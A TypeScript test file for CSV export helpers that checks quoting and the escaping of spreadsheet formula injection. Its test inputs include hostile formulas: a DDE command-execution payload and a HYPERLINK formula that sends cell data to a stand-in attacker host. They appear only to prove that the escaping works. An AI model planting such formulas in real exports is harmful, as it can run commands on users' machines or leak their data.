import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvRecord, excelRecord } from '@/lib/csv';

const read = (csv: string) => parse(csv, { record_delimiter: '\r\n' });

describe('csvRecord', () => {
  it('round-trips any text', () => {
    const text = fc.string({ unit: 'grapheme' });
    const rows = fc.array(fc.tuple(text, text, text), { minLength: 1, maxLength: 50 });
    fc.assert(
      fc.property(rows, (cells) => {
        expect(read(cells.map(csvRecord).join(''))).toEqual(cells);
      }),
      { numRuns: 20 },
    );
  });

  it('quotes separators, quotes and line breaks, and ends with CRLF', () => {
    expect(csvRecord(['a,b', 'say "hi"', 'two\nlines', 'a;b', 'a\tb', 'a\rb', 'plain'])).toBe(
      '"a,b","say ""hi""","two\nlines","a;b","a\tb","a\rb",plain\r\n',
    );
  });

  it('writes null as an empty cell and every text as it is', () => {
    expect(csvRecord([null, '-1', '=1+1', '007', '+49', '@x'])).toBe(',-1,=1+1,007,+49,@x\r\n');
  });
});

describe('excelRecord', () => {
  it.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '+1',
    '-1',
    '@SUM(A1)',
    ' =1',
    '\t=1',
    '\r=1',
    '\n=1',
    '\tx',
    ';x',
    '＝1+1',
    '=HYPERLINK("https://evil.example?"&A1,"x")',
  ])('escapes the formula %j', (cell) => {
    expect(read(excelRecord([cell, 'x']))).toEqual([[`'${cell}`, 'x']]);
  });

  it.each([
    ['a;=1', "a;'=1"],
    ['a\n=1', "a\n'=1"],
    ['a\t @SUM(1);-2', "a\t' @SUM(1);'-2"],
    ['=1;=2', "'=1;'=2"],
  ])('escapes the formula inside %j', (cell, safe) => {
    expect(read(excelRecord([cell]))).toEqual([[safe]]);
  });

  it.each([
    ...[
      '007',
      '1e5',
      '12345678901234567890',
      '1.5',
      '1,000',
      '.5',
      '12 %',
      '$5',
      '(5)',
      '1-2',
      '3/4',
    ],
    ...[
      '2026-01-02',
      '3.4.2026',
      '2026-01-02 10:00',
      '12:30',
      '12:30 pm',
      '1 1/2',
      '1-Jan',
      'MAR1',
    ],
    ...['Sept 2', '1jan26', 'TRUE', 'false'],
  ])('keeps %j a text', (cell) => {
    expect(read(excelRecord([cell]))).toEqual([[`'${cell}`]]);
  });

  it.each([
    ...[
      'Küche',
      'room 12',
      '12 rooms',
      'a-1',
      'Xk3v9Tq0aB2cD4eF',
      '3rd floor',
      'marble',
      '100 % oak',
    ],
    ...['2026-01-02T10:00:00.000Z', 'https://a.example/1', 'truth', '1a2b', "it's"],
  ])('leaves %j alone', (cell) => {
    expect(read(excelRecord([cell]))).toEqual([[cell]]);
  });

  it('guards a formula after a leading semicolon, which ends a cell in some countries', () => {
    expect(read(excelRecord([';@1', 'x']))).toEqual([["';'@1", 'x']]);
  });

  it('never starts a cell with a formula character', () => {
    const first = fc.constantFrom(...'=+-@\t\r\n"\', ;');
    fc.assert(
      fc.property(first, fc.string(), (begin, rest) => {
        const record = excelRecord([begin + rest, 'x']).replace(/^"/, '');
        expect(record).not.toMatch(/^[=+\-@\t\r\n;]/);
        expect(record).not.toMatch(/;\s*[=+\-@]/);
      }),
    );
  });
});
